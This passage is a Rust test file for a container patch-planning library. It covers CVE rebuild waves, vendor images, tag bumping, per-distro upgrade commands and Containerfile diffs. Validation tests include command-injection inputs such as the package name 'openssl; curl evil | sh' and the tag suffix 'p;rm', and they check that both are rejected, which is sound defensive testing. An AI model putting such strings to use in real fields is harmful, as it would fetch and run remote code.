//! Patch plans: waves, COTS handling, tags, upgrade steps, exact diffs, bad input.

use std::collections::{BTreeMap, BTreeSet};

use patchline_lineage::plan::{
    build_plan, render_json, render_markdown, upgrade_command, write_dir, PatchPlan, PlanError,
    PlanImage, PlanRequest, PlannedImage, TagScheme, Trigger,
};

const DIGEST: &str = "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

fn img(reference: &str, parent: Option<&str>, owner: &str) -> PlanImage {
    PlanImage {
        reference: reference.to_string(),
        parent: parent.map(str::to_string),
        tier: "application".into(),
        owner: owner.to_string(),
        contact: Some(format!("{owner}@example.com")),
        ..PlanImage::default()
    }
}

fn with_cf(mut i: PlanImage, path: &str, text: &str) -> PlanImage {
    i.containerfile_path = Some(path.to_string());
    i.containerfile = Some(text.to_string());
    i
}

fn root(mut i: PlanImage, distro: &str, pkgs: &[&str]) -> PlanImage {
    i.distro_id = Some(distro.to_string());
    i.packages_to_upgrade = pkgs.iter().map(|s| s.to_string()).collect();
    i
}

fn cve() -> Trigger {
    Trigger::Cve {
        id: "CVE-2024-5535".into(),
    }
}

fn find<'a>(plan: &'a PatchPlan, reference: &str) -> &'a PlannedImage {
    plan.waves
        .iter()
        .flat_map(|w| &w.images)
        .find(|p| p.reference == reference)
        .unwrap_or_else(|| panic!("{reference} not planned"))
}

fn wave_refs(plan: &PatchPlan) -> Vec<Vec<&str>> {
    plan.waves
        .iter()
        .map(|w| w.images.iter().map(|p| p.reference.as_str()).collect())
        .collect()
}

const ENT_CF: &str = "# Enterprise base: CA bundle and a non-root user.
FROM registry.local/base/debian:12.6
COPY corp-ca.crt /usr/local/share/ca-certificates/
RUN update-ca-certificates && useradd -r -u 10001 app
";

const WEB_CF: &str = "FROM registry.local/ent/base:1.4.2
COPY --chown=app:app app/ /srv/app/
USER app
CMD [\"/srv/app/run\"]
";

const API_CF: &str = "# syntax=docker/dockerfile:1
ARG BASE=registry.local/ent/base:1.4.2
FROM golang:1.22 AS build
RUN go build -o /out/api ./cmd/api

FROM ${BASE} AS final
COPY --from=build /out/api /usr/local/bin/api
";

fn tree() -> Vec<PlanImage> {
    vec![
        img("registry.local/base/debian:12.6", None, "platform"),
        root(
            with_cf(
                img(
                    "registry.local/ent/base:1.4.2",
                    Some("registry.local/base/debian:12.6"),
                    "platform",
                ),
                "ent/Containerfile",
                ENT_CF,
            ),
            "debian",
            &["openssl", "libssl3", "openssl"],
        ),
        with_cf(
            img(
                "registry.local/apps/web:2.0.1",
                Some("registry.local/ent/base:1.4.2"),
                "web-team",
            ),
            "apps/web/Containerfile",
            WEB_CF,
        ),
        with_cf(
            img(
                "registry.local/apps/api:3.1.0",
                Some("registry.local/ent/base:1.4.2"),
                "api-team",
            ),
            "apps/api/Dockerfile",
            API_CF,
        ),
        img(
            "registry.local/build/go:1.22.5",
            Some("registry.local/ent/base:1.4.2"),
            "ci-team",
        ),
        PlanImage {
            cots: true,
            packages_to_upgrade: vec!["openssl".into()],
            ..img("vendor.example/db/server:7.0", None, "Vendor Corp")
        },
    ]
}

#[test]
fn cve_plan_for_a_tree() {
    let mut images = tree();
    // The base is affected but the fix is not its: it is skipped with a reason.
    images[0].tier = "base".into();
    let plan = build_plan(&PlanRequest::new(cve(), images, TagScheme::BumpPatch)).unwrap();
    assert_eq!(
        wave_refs(&plan),
        vec![
            vec!["registry.local/ent/base:1.4.2"],
            vec![
                "registry.local/apps/api:3.1.0",
                "registry.local/apps/web:2.0.1",
                "registry.local/build/go:1.22.5"
            ],
        ]
    );
    assert_eq!(plan.skipped.len(), 1);
    assert_eq!(plan.skipped[0].reference, "registry.local/base/debian:12.6");

    let ent = find(&plan, "registry.local/ent/base:1.4.2");
    assert!(ent.root_of_fix);
    assert_eq!(ent.new_tag, "1.4.3");
    assert_eq!(ent.new_reference, "registry.local/ent/base:1.4.3");
    assert_eq!(ent.new_parent, None);
    let up = ent.upgrade.as_ref().unwrap();
    assert_eq!(up.packages, ["libssl3", "openssl"]);
    assert_eq!(up.tool, "apt-get");
    assert_eq!(
        ent.diff.as_deref().unwrap(),
        "--- a/ent/Containerfile
+++ b/ent/Containerfile
@@ -2,3 +2,4 @@
 FROM registry.local/base/debian:12.6
 COPY corp-ca.crt /usr/local/share/ca-certificates/
 RUN update-ca-certificates && useradd -r -u 10001 app
+RUN apt-get update && apt-get install --only-upgrade -y libssl3 openssl && rm -rf /var/lib/apt/lists/*
"
    );

    let web = find(&plan, "registry.local/apps/web:2.0.1");
    assert_eq!(web.wave, 1);
    assert!(!web.root_of_fix);
    assert_eq!(web.new_tag, "2.0.2");
    let np = web.new_parent.as_ref().unwrap();
    assert_eq!(np.from, "registry.local/ent/base:1.4.3");
    assert!(np.pin_after_build);
    assert_eq!(np.built_in_wave, Some(0));
    assert_eq!(
        web.diff.as_deref().unwrap(),
        "--- a/apps/web/Containerfile
+++ b/apps/web/Containerfile
@@ -1,4 +1,4 @@
-FROM registry.local/ent/base:1.4.2
+FROM registry.local/ent/base:1.4.3
 COPY --chown=app:app app/ /srv/app/
 USER app
 CMD [\"/srv/app/run\"]
"
    );
    assert_eq!(
        web.patched_containerfile.as_deref().unwrap(),
        WEB_CF.replace("base:1.4.2", "base:1.4.3")
    );

    // The API's final stage uses an ARG: its default moves, the build stage stays.
    let api = find(&plan, "registry.local/apps/api:3.1.0");
    assert_eq!(
        api.diff.as_deref().unwrap(),
        "--- a/apps/api/Dockerfile
+++ b/apps/api/Dockerfile
@@ -1,5 +1,5 @@
 # syntax=docker/dockerfile:1
-ARG BASE=registry.local/ent/base:1.4.2
+ARG BASE=registry.local/ent/base:1.4.3
 FROM golang:1.22 AS build
 RUN go build -o /out/api ./cmd/api
 
"
    );
    assert!(api
        .notes
        .iter()
        .any(|n| n.contains("rewrote the default of ARG BASE")));

    // No Containerfile catalogued: manual, with what to do.
    let go = find(&plan, "registry.local/build/go:1.22.5");
    assert!(go.manual);
    assert!(go.patched_containerfile.is_none());
    assert!(go
        .notes
        .iter()
        .any(|n| n.contains("build FROM registry.local/ent/base:1.4.3")));

    // COTS: vendor must fix, never in a wave.
    assert_eq!(plan.vendor_must_fix.len(), 1);
    assert_eq!(
        plan.vendor_must_fix[0].reference,
        "vendor.example/db/server:7.0"
    );
    assert_eq!(plan.vendor_must_fix[0].owner, "Vendor Corp");
    assert!(plan
        .waves
        .iter()
        .flat_map(|w| &w.images)
        .all(|p| !p.reference.starts_with("vendor.")));

    // Owners to notify: one entry each.
    let owners: Vec<&str> = plan.notify.iter().map(|n| n.owner.as_str()).collect();
    assert_eq!(
        owners,
        ["Vendor Corp", "api-team", "ci-team", "platform", "web-team"]
    );
    let platform = plan.notify.iter().find(|n| n.owner == "platform").unwrap();
    assert_eq!(platform.contact.as_deref(), Some("platform@example.com"));
    assert_eq!(
        platform.actions,
        ["rebuild registry.local/ent/base:1.4.2 as registry.local/ent/base:1.4.3 in wave 0"]
    );
}

#[test]
fn deep_chain_gives_one_wave_per_level() {
    let mut images = Vec::new();
    for i in 0..6 {
        let parent = (i > 0).then(|| format!("reg.local/chain/l{}:1.0.0", i - 1));
        let r = format!("reg.local/chain/l{i}:1.0.0");
        let cf = match &parent {
            Some(p) => format!("FROM {p}\nRUN echo level {i}\n"),
            None => "FROM alpine:3.20\nRUN apk add --no-cache ca-certificates\n".to_string(),
        };
        images.push(with_cf(
            img(&r, parent.as_deref(), "chain"),
            "Containerfile",
            &cf,
        ));
    }
    images[0] = root(images[0].clone(), "alpine", &["libcrypto3", "libssl3"]);
    // Listed children first: the order of the input does not matter.
    images.reverse();
    let plan = build_plan(&PlanRequest::new(cve(), images, TagScheme::BumpPatch)).unwrap();
    assert_eq!(plan.waves.len(), 6);
    for (i, w) in plan.waves.iter().enumerate() {
        assert_eq!(w.index, i);
        assert_eq!(w.images.len(), 1);
        let p = &w.images[0];
        assert_eq!(p.reference, format!("reg.local/chain/l{i}:1.0.0"));
        assert_eq!(p.new_tag, "1.0.1");
        if i == 0 {
            assert_eq!(
                p.patched_containerfile.as_deref().unwrap(),
                "FROM alpine:3.20\nRUN apk add --no-cache ca-certificates\nRUN apk upgrade --no-cache libcrypto3 libssl3\n"
            );
        } else {
            let np = p.new_parent.as_ref().unwrap();
            assert_eq!(np.from, format!("reg.local/chain/l{}:1.0.1", i - 1));
            assert_eq!(np.built_in_wave, Some(i - 1));
            assert_eq!(
                p.patched_containerfile.as_deref().unwrap(),
                format!(
                    "FROM reg.local/chain/l{}:1.0.1\nRUN echo level {i}\n",
                    i - 1
                )
            );
        }
    }
}

#[test]
fn new_base_plan_pins_children_and_blocks_cots_descendants() {
    let base = "registry.local/base/debian:12";
    let images = vec![
        img(base, None, "platform"),
        with_cf(
            img("registry.local/ent/base:1.4.2", Some(base), "platform"),
            "ent/Containerfile",
            "FROM registry.local/base/debian:12\r\nRUN useradd app\r\n",
        ),
        with_cf(
            img(
                "registry.local/apps/web:2.0.1",
                Some("registry.local/ent/base:1.4.2"),
                "web-team",
            ),
            "Containerfile",
            WEB_CF,
        ),
        PlanImage {
            cots: true,
            ..img("vendor.example/agent:5", Some(base), "Vendor Corp")
        },
        img(
            "registry.local/apps/agent-config:1.0.0",
            Some("vendor.example/agent:5"),
            "ops",
        ),
    ];
    let trigger = Trigger::NewBase {
        image: base.into(),
        new_ref: "registry.local/base/debian:12".into(),
        new_digest: DIGEST.into(),
    };
    let plan = build_plan(&PlanRequest::new(trigger, images, TagScheme::BumpPatch)).unwrap();
    assert_eq!(
        wave_refs(&plan),
        vec![
            vec!["registry.local/ent/base:1.4.2"],
            vec!["registry.local/apps/web:2.0.1"]
        ]
    );
    let ent = find(&plan, "registry.local/ent/base:1.4.2");
    let np = ent.new_parent.as_ref().unwrap();
    assert!(!np.pin_after_build);
    assert_eq!(np.digest.as_deref(), Some(DIGEST));
    assert_eq!(
        ent.patched_containerfile.as_deref().unwrap(),
        format!("FROM registry.local/base/debian:12@{DIGEST}\r\nRUN useradd app\r\n")
    );
    assert_eq!(
        ent.diff.as_deref().unwrap(),
        format!(
            "--- a/ent/Containerfile\n+++ b/ent/Containerfile\n@@ -1,2 +1,2 @@\n-FROM registry.local/base/debian:12\r\n+FROM registry.local/base/debian:12@{DIGEST}\r\n RUN useradd app\r\n"
        )
    );
    assert_eq!(plan.vendor_must_fix.len(), 1);
    assert!(plan.vendor_must_fix[0]
        .reason
        .contains("must rebuild it on registry.local/base/debian:12@sha256:"));
    assert_eq!(plan.blocked.len(), 1);
    assert_eq!(
        plan.blocked[0].reference,
        "registry.local/apps/agent-config:1.0.0"
    );
    assert_eq!(plan.blocked[0].waiting_on, "vendor.example/agent:5");
}

#[test]
fn parent_links_match_docker_normalised_names() {
    let images = vec![with_cf(
        img(
            "registry.local/app:1.0.0",
            Some("docker.io/library/debian:12"),
            "team",
        ),
        "Containerfile",
        "FROM debian:12\n",
    )];
    let trigger = Trigger::NewBase {
        image: "debian:12".into(),
        new_ref: "debian:12".into(),
        new_digest: DIGEST.into(),
    };
    let plan = build_plan(&PlanRequest::new(trigger, images, TagScheme::BumpPatch)).unwrap();
    let p = find(&plan, "registry.local/app:1.0.0");
    assert_eq!(
        p.patched_containerfile.as_deref().unwrap(),
        format!("FROM debian:12@{DIGEST}\n")
    );
    // The Containerfile and the catalog agree once normalised: no stale note.
    assert!(p.notes.iter().all(|n| !n.contains("stale")));
}

fn tag_for(reference: &str, scheme: TagScheme, existing: &[&str]) -> String {
    let mut req = PlanRequest::new(
        cve(),
        vec![root(
            with_cf(
                img(reference, None, "t"),
                "Containerfile",
                "FROM alpine:3.20\n",
            ),
            "alpine",
            &["musl"],
        )],
        scheme,
    );
    let repo = reference.rsplit_once(':').map_or(reference, |(r, _)| r);
    req.existing_tags.insert(
        repo.to_string(),
        existing
            .iter()
            .map(|s| s.to_string())
            .collect::<BTreeSet<_>>(),
    );
    req.date = Some("20250102".into());
    build_plan(&req).unwrap().waves[0].images[0].new_tag.clone()
}

#[test]
fn tag_schemes() {
    use TagScheme::*;
    assert_eq!(tag_for("r.local/a:1.4.2", BumpPatch, &[]), "1.4.3");
    assert_eq!(tag_for("r.local/a:v1.4.9", BumpPatch, &[]), "v1.4.10");
    assert_eq!(
        tag_for("r.local/a:3.12.4-slim", BumpPatch, &[]),
        "3.12.5-slim"
    );
    // The bumped tag exists: a real release owns it, so fall back to a suffix.
    assert_eq!(
        tag_for("r.local/a:1.4.2", BumpPatch, &["1.4.3"]),
        "1.4.2-p1"
    );
    assert_eq!(
        tag_for("r.local/a:1.4.2", BumpPatch, &["1.4.3", "1.4.2-p1"]),
        "1.4.2-p2"
    );
    // Not semver: suffix.
    assert_eq!(tag_for("r.local/a:latest", BumpPatch, &[]), "latest-p1");
    assert_eq!(tag_for("r.local/a:1.4", BumpPatch, &[]), "1.4-p1");
    assert_eq!(tag_for("r.local/a", BumpPatch, &[]), "latest-p1");
    assert_eq!(
        tag_for("localhost:5000/a:2024.01", BumpPatch, &[]),
        "2024.01-p1"
    );

    assert_eq!(tag_for("r.local/a:1.0", Suffix("p".into()), &[]), "1.0-p1");
    assert_eq!(
        tag_for("r.local/a:1.0-p1", Suffix("p".into()), &[]),
        "1.0-p2"
    );
    assert_eq!(
        tag_for("r.local/a:1.0", Suffix("p".into()), &["1.0-p1", "1.0-p2"]),
        "1.0-p3"
    );
    assert_eq!(
        tag_for("r.local/a:1.0", Suffix("patch".into()), &[]),
        "1.0-patch1"
    );

    assert_eq!(tag_for("r.local/a:1.0", Date, &[]), "1.0-20250102");
    assert_eq!(
        tag_for("r.local/a:1.0", Date, &["1.0-20250102"]),
        "1.0-20250102-2"
    );
    assert_eq!(tag_for("r.local/a:1.0-20241231", Date, &[]), "1.0-20250102");
    assert_eq!(
        tag_for("r.local/a:1.0-20241231-3", Date, &[]),
        "1.0-20250102"
    );

    // Two images of one repository never get the same tag.
    let images = vec![
        root(
            with_cf(img("r.local/a:1.0", None, "t"), "C", "FROM alpine\n"),
            "alpine",
            &["musl"],
        ),
        root(
            with_cf(img("r.local/a:1.0-p1", None, "t"), "C", "FROM alpine\n"),
            "alpine",
            &["musl"],
        ),
    ];
    let plan = build_plan(&PlanRequest::new(cve(), images, Suffix("p".into()))).unwrap();
    let tags: BTreeSet<&str> = plan.waves[0]
        .images
        .iter()
        .map(|p| p.new_tag.as_str())
        .collect();
    assert_eq!(tags, BTreeSet::from(["1.0-p2", "1.0-p3"]));

    // An unusable suffix is refused.
    let req = PlanRequest::new(
        cve(),
        vec![root(img("r.local/a:1.0", None, "t"), "alpine", &["musl"])],
        Suffix("p;rm".into()),
    );
    assert!(matches!(
        build_plan(&req),
        Err(PlanError::InvalidTag { .. })
    ));
}

#[test]
fn upgrade_steps_per_distro() {
    let p = vec!["openssl".to_string(), "libssl3".to_string()];
    let cmd = |d: &str, names: &[&str]| upgrade_command(d, &p, names).map(|s| (s.tool, s.command));
    assert_eq!(
        cmd("debian", &[]).unwrap().1,
        "apt-get update && apt-get install --only-upgrade -y openssl libssl3 && rm -rf /var/lib/apt/lists/*"
    );
    assert_eq!(cmd("ubuntu", &[]).unwrap().0, "apt-get");
    assert_eq!(
        cmd("alpine", &[]).unwrap().1,
        "apk upgrade --no-cache openssl libssl3"
    );
    assert_eq!(cmd("wolfi", &[]).unwrap().0, "apk");
    assert_eq!(
        cmd("rhel", &["registry.access.redhat.com/ubi9/ubi:9.4"])
            .unwrap()
            .1,
        "dnf upgrade -y openssl libssl3 && dnf clean all"
    );
    assert_eq!(
        cmd("rhel", &["registry.access.redhat.com/ubi9/ubi-minimal:9.4"])
            .unwrap()
            .1,
        "microdnf upgrade -y openssl libssl3 && microdnf clean all"
    );
    assert_eq!(cmd("rocky", &[]).unwrap().0, "dnf");
    assert_eq!(cmd("almalinux", &[]).unwrap().0, "dnf");
    assert_eq!(cmd("fedora", &["fedora-minimal:40"]).unwrap().0, "microdnf");
    assert_eq!(cmd("centos", &[]).unwrap().0, "dnf");
    assert_eq!(
        cmd("amzn", &[]).unwrap().1,
        "yum upgrade -y openssl libssl3 && yum clean all"
    );
    assert_eq!(
        cmd("opensuse-leap", &[]).unwrap().1,
        "zypper --non-interactive update openssl libssl3 && zypper clean --all"
    );
    assert_eq!(cmd("sles", &[]).unwrap().0, "zypper");
    assert_eq!(cmd("photon", &[]).unwrap().0, "tdnf");
    assert_eq!(cmd("Debian", &[]).unwrap().0, "apt-get");
    assert_eq!(cmd("gentoo", &[]), None);

    // In a plan, the base name picks microdnf; an unknown distro is left to the owner.
    let images = vec![
        root(
            with_cf(
                img(
                    "r.local/ubi-app:1.0.0",
                    Some("registry.access.redhat.com/ubi9/ubi-minimal:9.4"),
                    "t",
                ),
                "Containerfile",
                "FROM registry.access.redhat.com/ubi9/ubi-minimal:9.4\nCOPY app /app\n",
            ),
            "rhel",
            &["openssl-libs"],
        ),
        root(
            with_cf(
                img("r.local/odd:1.0.0", None, "t"),
                "Containerfile",
                "FROM gentoo/stage3\n",
            ),
            "gentoo",
            &["openssl"],
        ),
    ];
    let plan = build_plan(&PlanRequest::new(cve(), images, TagScheme::BumpPatch)).unwrap();
    let ubi = find(&plan, "r.local/ubi-app:1.0.0");
    assert_eq!(
        ubi.patched_containerfile.as_deref().unwrap(),
        "FROM registry.access.redhat.com/ubi9/ubi-minimal:9.4\nRUN microdnf upgrade -y openssl-libs && microdnf clean all\nCOPY app /app\n"
    );
    assert!(ubi.notes.iter().any(|n| n.contains("USER root")));
    let odd = find(&plan, "r.local/odd:1.0.0");
    assert!(odd.manual);
    assert!(odd.upgrade.is_none());
    assert!(odd
        .notes
        .iter()
        .any(|n| n.contains("no upgrade command known for distro \"gentoo\"")));
}

#[test]
fn upgrade_step_placement_in_plans() {
    const APT: &str =
        "apt-get update && apt-get install --only-upgrade -y curl && rm -rf /var/lib/apt/lists/*";
    let images = vec![
        // Installs the package itself: the upgrade follows that install.
        root(
            with_cf(
                img("r.local/installs:1.0.0", Some("debian:12"), "t"),
                "Containerfile",
                "FROM debian:12\nRUN apt-get update && apt-get install -y curl\nCMD [\"curl\"]\n",
            ),
            "debian",
            &["curl"],
        ),
        // Runs as a non-root user before its last RUN: the step is wrapped.
        root(
            with_cf(
                img("r.local/nonroot:1.0.0", Some("debian:12"), "t"),
                "Containerfile",
                "FROM debian:12\nUSER app\nRUN make\nCMD [\"app\"]\n",
            ),
            "debian",
            &["curl"],
        ),
        // The final stage has no RUN: right after its FROM.
        root(
            with_cf(
                img("r.local/norun:1.0.0", Some("debian:12"), "t"),
                "Containerfile",
                "FROM golang:1.22 AS build\nRUN go build -o /app .\nFROM debian:12\nCOPY --from=build /app /app\n",
            ),
            "debian",
            &["curl"],
        ),
    ];
    let plan = build_plan(&PlanRequest::new(cve(), images, TagScheme::BumpPatch)).unwrap();

    let installs = find(&plan, "r.local/installs:1.0.0");
    assert_eq!(
        installs.patched_containerfile.as_deref().unwrap(),
        format!("FROM debian:12\nRUN apt-get update && apt-get install -y curl\nRUN {APT}\nCMD [\"curl\"]\n")
    );

    let nonroot = find(&plan, "r.local/nonroot:1.0.0");
    assert_eq!(
        nonroot.patched_containerfile.as_deref().unwrap(),
        format!(
            "FROM debian:12\nUSER app\nRUN make\nUSER root\nRUN {APT}\nUSER app\nCMD [\"app\"]\n"
        )
    );
    assert!(!nonroot.manual);
    // The file sets the user, so the note about the parent's user gives way to the wrap.
    assert!(nonroot
        .notes
        .iter()
        .any(|n| n.contains("runs as USER app (line 2)")));
    assert!(!nonroot
        .notes
        .iter()
        .any(|n| n.contains("the user the parent image leaves set")));

    let norun = find(&plan, "r.local/norun:1.0.0");
    assert_eq!(
        norun.patched_containerfile.as_deref().unwrap(),
        format!("FROM golang:1.22 AS build\nRUN go build -o /app .\nFROM debian:12\nRUN {APT}\nCOPY --from=build /app /app\n")
    );
    assert!(norun
        .notes
        .iter()
        .any(|n| n.contains("the user the parent image leaves set")));
}

#[test]
fn package_names_are_checked_before_reaching_a_shell() {
    let images = vec![root(
        img("r.local/a:1.0.0", None, "t"),
        "debian",
        &["openssl; curl evil | sh"],
    )];
    let e = build_plan(&PlanRequest::new(cve(), images, TagScheme::BumpPatch)).unwrap_err();
    assert_eq!(
        e.to_string(),
        "image r.local/a:1.0.0: package name \"openssl; curl evil | sh\" is not a valid package name"
    );
    // Real names with epochs, arch qualifiers and plus signs pass.
    let images = vec![root(
        img("r.local/a:1.0.0", None, "t"),
        "debian",
        &["libc6:amd64", "libstdc++6", "g++-12"],
    )];
    assert!(build_plan(&PlanRequest::new(cve(), images, TagScheme::BumpPatch)).is_ok());
}

#[test]
fn cycles_are_named() {
    let images = vec![
        img("r.local/a:1", Some("r.local/c:1"), "t"),
        img("r.local/b:1", Some("r.local/a:1"), "t"),
        img("r.local/c:1", Some("r.local/b:1"), "t"),
        img("r.local/d:1", Some("r.local/a:1"), "t"),
    ];
    let e = build_plan(&PlanRequest::new(cve(), images, TagScheme::BumpPatch)).unwrap_err();
    match &e {
        PlanError::Cycle { images } => {
            let set: BTreeSet<&str> = images.iter().map(String::as_str).collect();
            assert_eq!(
                set,
                BTreeSet::from(["r.local/a:1", "r.local/b:1", "r.local/c:1"])
            );
        }
        other => panic!("expected a cycle, got {other}"),
    }
    assert_eq!(
        e.to_string(),
        "cycle in the parent links: r.local/a:1 -> r.local/c:1 -> r.local/b:1 -> r.local/a:1"
    );
    // A self-parent is a cycle too.
    let images = vec![img("r.local/a:1", Some("r.local/a:1"), "t")];
    assert!(matches!(
        build_plan(&PlanRequest::new(cve(), images, TagScheme::BumpPatch)),
        Err(PlanError::Cycle { .. })
    ));
}

#[test]
fn bad_input_errors() {
    // A Containerfile that does not parse names the image, the path, line and column.
    let images = vec![root(
        with_cf(
            img("r.local/a:1.0.0", None, "t"),
            "svc/Containerfile",
            "FROM debian:12\nRUN <<EOF\necho\n",
        ),
        "debian",
        &["openssl"],
    )];
    let e = build_plan(&PlanRequest::new(cve(), images, TagScheme::BumpPatch)).unwrap_err();
    assert_eq!(
        e.to_string(),
        "image r.local/a:1.0.0: Containerfile svc/Containerfile does not parse: line 2, column 5: unterminated heredoc `EOF`: no line closes it before the end of the file"
    );
    let dup = vec![img("r.local/a:1", None, "t"), img("r.local/a:1", None, "u")];
    assert!(matches!(
        build_plan(&PlanRequest::new(cve(), dup, TagScheme::BumpPatch)),
        Err(PlanError::DuplicateImage(_))
    ));
    let bad_digest = Trigger::NewBase {
        image: "debian:12".into(),
        new_ref: "debian:12".into(),
        new_digest: "sha256:xyz".into(),
    };
    assert!(matches!(
        build_plan(&PlanRequest::new(bad_digest, vec![], TagScheme::BumpPatch)),
        Err(PlanError::InvalidTrigger(_))
    ));
    let pinned_ref = Trigger::NewBase {
        image: "debian:12".into(),
        new_ref: format!("debian:12@{DIGEST}"),
        new_digest: DIGEST.into(),
    };
    assert!(matches!(
        build_plan(&PlanRequest::new(pinned_ref, vec![], TagScheme::BumpPatch)),
        Err(PlanError::InvalidTrigger(_))
    ));
}

#[test]
fn stale_containerfile_and_scratch_are_noted() {
    let images = vec![
        root(
            with_cf(img("r.local/p:1.0.0", None, "t"), "C", "FROM debian:12\n"),
            "debian",
            &["openssl"],
        ),
        with_cf(
            img("r.local/stale:1.0.0", Some("r.local/p:1.0.0"), "t"),
            "C",
            "FROM python:3.11\nRUN true\n",
        ),
        with_cf(
            img("r.local/static:1.0.0", Some("r.local/p:1.0.0"), "t"),
            "C",
            "FROM r.local/p:1.0.0 AS build\nRUN make\nFROM scratch\nCOPY --from=build /app /app\n",
        ),
    ];
    let plan = build_plan(&PlanRequest::new(cve(), images, TagScheme::BumpPatch)).unwrap();
    let stale = find(&plan, "r.local/stale:1.0.0");
    assert!(stale
        .notes
        .iter()
        .any(|n| n == "the Containerfile builds on python:3.11 but the catalog parent is r.local/p:1.0.0: one of them is stale"));
    // The FROM is moved anyway: the plan follows the catalog.
    assert_eq!(
        stale.patched_containerfile.as_deref().unwrap(),
        "FROM r.local/p:1.0.1\nRUN true\n"
    );
    let st = find(&plan, "r.local/static:1.0.0");
    assert!(st.manual);
    assert!(st.patched_containerfile.is_none());
    assert!(st.notes.iter().any(|n| n.contains("FROM scratch")));
}

#[test]
fn renderers_and_write_dir() {
    let plan = build_plan(&PlanRequest::new(cve(), tree(), TagScheme::BumpPatch)).unwrap();
    let json = render_json(&plan).unwrap();
    let back: PatchPlan = serde_json::from_str(&json).unwrap();
    assert_eq!(back, plan);
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(v["schema_version"], 1);
    assert_eq!(v["trigger"]["kind"], "cve");
    assert_eq!(v["trigger"]["id"], "CVE-2024-5535");
    assert_eq!(v["tag_scheme"], "bump_patch");
    assert_eq!(
        v["waves"][1]["images"][1]["new_parent"]["pin_after_build"],
        true
    );

    let md = render_markdown(&plan);
    assert!(md.starts_with("# Patch plan for CVE-2024-5535\n\n4 image(s) to rebuild in 2 wave(s); 1 vendor image(s) to fix; 0 blocked; 1 skipped.\n"));
    assert!(md.contains("| 0 | `registry.local/ent/base:1.4.2` | `1.4.3` | platform | upgrade libssl3 openssl (apt-get) |"));
    assert!(md.contains("## Wave 1\n"));
    assert!(md.contains("```diff\n--- a/apps/web/Containerfile\n+++ b/apps/web/Containerfile\n"));
    assert!(md.contains("## Vendor must fix\n"));
    assert!(md.contains("## Owners to notify\n"));

    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("plan-out");
    write_dir(&plan, &out).unwrap();
    let read = |p: &str| std::fs::read_to_string(out.join(p)).unwrap();
    assert_eq!(read("plan.json"), json);
    assert_eq!(read("plan.md"), md);
    let web = find(&plan, "registry.local/apps/web:2.0.1");
    assert_eq!(web.slug, "registry.local_apps_web_2.0.1");
    assert_eq!(
        read("wave-1/registry.local_apps_web_2.0.1/Containerfile"),
        *web.patched_containerfile.as_ref().unwrap()
    );
    assert_eq!(
        read("wave-1/registry.local_apps_web_2.0.1/Containerfile.diff"),
        *web.diff.as_ref().unwrap()
    );
    assert_eq!(
        read("wave-1/registry.local_apps_api_3.1.0/Dockerfile"),
        *find(&plan, "registry.local/apps/api:3.1.0")
            .patched_containerfile
            .as_ref()
            .unwrap()
    );
    assert!(out
        .join("wave-1/registry.local_build_go_1.22.5/image.json")
        .is_file());
    assert!(!out
        .join("wave-1/registry.local_build_go_1.22.5/Containerfile")
        .exists());
    // No temporary directory is left beside it.
    let names: Vec<String> = std::fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, ["plan-out"]);
    // A non-empty directory is not replaced; an empty one is filled.
    assert!(matches!(
        write_dir(&plan, &out),
        Err(PlanError::DirNotEmpty(_))
    ));
    let empty = tmp.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    write_dir(&plan, &empty).unwrap();
    assert!(empty.join("plan.md").is_file());
}

#[test]
fn new_base_children_without_rebuilt_parents_and_no_change_are_skipped() {
    // Under a CVE trigger an affected image that is neither a root nor the child of a
    // rebuilt image cannot be fixed by this plan.
    let images = vec![img("r.local/x:1.0.0", Some("r.local/unknown:1"), "t")];
    let plan = build_plan(&PlanRequest::new(cve(), images, TagScheme::BumpPatch)).unwrap();
    assert!(plan.waves.is_empty());
    assert_eq!(plan.skipped.len(), 1);
    assert!(plan.skipped[0]
        .reason
        .contains("its parent r.local/unknown:1 is not rebuilt"));
    let _ = BTreeMap::<String, String>::new();
}

/// A Containerfile that pins the vulnerable version gets the pin moved in place, for each
/// package manager's pin syntax; an upgrade step after the old pin would download the
/// package twice, in two layers.
#[test]
fn pinned_vulnerable_versions_move_in_place() {
    let cases: &[(&str, &str, &str, &str)] = &[
        (
            "debian",
            "FROM debian:12\nRUN apt-get update && apt-get install -y --no-install-recommends \\\n    curl=7.88.1-10+deb12u5 ca-certificates && rm -rf /var/lib/apt/lists/*\n",
            "7.88.1-10+deb12u10",
            "    curl=7.88.1-10+deb12u10 ca-certificates && rm -rf /var/lib/apt/lists/*",
        ),
        (
            "alpine",
            "FROM alpine:3.19\nRUN apk add --no-cache 'curl=8.5.0-r0'\n",
            "8.9.1-r0",
            "RUN apk add --no-cache 'curl=8.9.1-r0'",
        ),
        (
            "rocky",
            "FROM rockylinux:9\nRUN dnf install -y curl-7.76.1-26.el9 && dnf clean all\n",
            "7.76.1-29.el9_4",
            "RUN dnf install -y curl-7.76.1-29.el9_4 && dnf clean all",
        ),
    ];
    for (distro, cf, fixed, want_line) in cases {
        let mut app = root(
            with_cf(img("r.local/app:1", None, "team"), "Containerfile", cf),
            distro,
            &["curl"],
        );
        app.fixed_versions.insert("curl".into(), fixed.to_string());
        let plan = build_plan(&PlanRequest::new(cve(), vec![app], TagScheme::BumpPatch)).unwrap();
        let p = find(&plan, "r.local/app:1");
        let text = p.patched_containerfile.as_deref().unwrap();
        assert!(text.lines().any(|l| l == *want_line), "{distro}:\n{text}");
        assert_eq!(
            text.matches("RUN").count(),
            1,
            "{distro}: no extra upgrade step:\n{text}"
        );
        assert!(p.upgrade.is_none(), "{distro}");
        assert_eq!(p.moved_pins.len(), 1, "{distro}");
        assert!(
            render_markdown(&plan).contains("move pin curl="),
            "{distro}"
        );
    }

    // A package the Containerfile does not pin still gets the upgrade step; `curl-devel`
    // is not curl at version `devel`; an unchanged version is not "moved".
    let mut app = root(
        with_cf(
            img("r.local/app:1", None, "team"),
            "Containerfile",
            "FROM debian:12\nRUN apt-get install -y curl=7.88.1-10+deb12u5 libcurl4\n",
        ),
        "debian",
        &["curl", "libcurl4"],
    );
    app.fixed_versions
        .insert("curl".into(), "7.88.1-10+deb12u10".into());
    app.fixed_versions
        .insert("libcurl4".into(), "7.88.1-10+deb12u10".into());
